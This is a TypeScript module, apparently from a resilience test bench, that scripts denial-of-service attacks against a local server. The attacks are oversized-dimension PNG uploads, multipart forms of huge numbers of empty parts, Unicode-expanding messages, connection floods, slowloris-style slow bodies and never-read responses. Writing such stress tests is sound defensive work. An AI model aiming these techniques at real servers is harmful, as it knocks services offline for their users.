/** Attacks on a server of the bench, one function each. They reach this machine only, and end by themselves. */
import { randomUUID } from 'node:crypto'
import { setTimeout as pause } from 'node:timers/promises'
import { openConnections, type Sending } from './connections.ts'
import { asMember, asVisitor, over, type Attack, type Order } from './sending.ts'
import { mediaAttacks } from './media-attacks.ts'
import { formOf, pngOf, tinyParts } from './payloads.ts'

/** How often each status was answered; 0 is a broken connection. */
export type Done = Record<string, number>
export type AttackName = keyof typeof attacks
export type NamedOrder = Order & { name: AttackName }

const uploadPath = '/api/profileimage.php'
const upload = (order: Order, form: { type: string; body: Buffer }, n = 0): Sending => ({
  method: 'POST',
  path: uploadPath,
  headers: { ...asMember(order, n), 'content-type': form.type, 'idempotency-key': randomUUID() },
  body: form.body,
})

/** Eight files of 1 × 39,999,999 pixels in four forms of one member. */
const tallUploads: Attack = async (order, connections) => {
  const form = formOf([pngOf(1, 39_999_999), pngOf(1, 39_999_999)])
  await Promise.all(Array.from({ length: 4 }, () => connections.send(upload(order, form))))
}

/** Forty files of 6,324 × 6,324 pixels: all in one form, then four to a form. */
const flatUploads: Attack = async (order, connections) => {
  const flat = pngOf(6324, 6324)
  await connections.send(upload(order, formOf(Array.from({ length: 40 }, () => flat))))
  const four = formOf([flat, flat, flat, flat])
  await Promise.all(Array.from({ length: 10 }, () => connections.send(upload(order, four))))
}

/** A form of 392,156 parts of nothing. */
const tinyForm: Attack = (order, connections) => {
  const form = tinyParts(20e6)
  return over(order, connections, 1, (n) => upload(order, form, n))
}

/** Three such forms of 60 MB at once. */
const tinyForms: Attack = (order, connections) => {
  const form = tinyParts(60e6)
  return over(order, connections, 3, (n) => upload(order, form, n))
}

/** Sixteen members send texts that double in length when they are normalised, to a conversation that does not exist. */
const messages: Attack = (order, connections) => {
  const body = Buffer.from(JSON.stringify({ conversation: 99_999_999, text: '㏙-'.repeat(1000) }))
  return over(order, connections, 16, (n) => ({
    method: 'POST',
    path: '/api/messages.php',
    headers: { ...asMember(order, n), 'content-type': 'application/json', 'idempotency-key': randomUUID() },
    body,
  }))
}

/** Fifty connections of a visitor, or of a member. */
const pages =
  (path: string, headersOf: (order: Order) => Record<string, string>): Attack =>
  (order, connections) =>
    over(order, connections, 50, () => ({ path, headers: { ...headersOf(order), accept: 'text/html' } }))

/** Fifty connections that send a large form a byte at a time. */
const slowBodies: Attack = async (order, connections) => {
  const headers = { ...asMember(order), 'content-type': 'multipart/form-data; boundary=x', 'content-length': '29999999' }
  const sockets = Array.from({ length: 50 }, () => connections.open({ method: 'POST', path: uploadPath, headers }))
  for (const untilMs = performance.now() + order.forMs; performance.now() < untilMs; await pause(500))
    for (const socket of sockets) socket.write('-')
}

/** Fifty connections, each with ten page requests, that never read a response. */
const neverReading: Attack = async (order, connections) => {
  for (let n = 0; n < 50; n++) {
    const socket = connections.open({ path: n % 2 ? '/' : '/members', headers: asMember(order), times: 10 })
    socket.pause()
  }
  await pause(order.forMs)
}

export const attacks = {
  'tall-uploads': tallUploads,
  'flat-uploads': flatUploads,
  'tiny-form': tinyForm,
  'tiny-forms': tinyForms,
  messages,
  'page-home': pages('/', asVisitor),
  'page-members': pages('/members', asMember),
  ...mediaAttacks,
  'slow-bodies': slowBodies,
  'never-reading': neverReading,
} satisfies Record<string, Attack>
export const attackNames = Object.keys(attacks) as AttackName[]

/** Ends when the time is over, whatever is still under way. */
export async function attack(order: NamedOrder): Promise<Done> {
  const connections = openConnections(order.port)
  await Promise.race([attacks[order.name](order, connections), pause(order.forMs)])
  return connections.end()
}
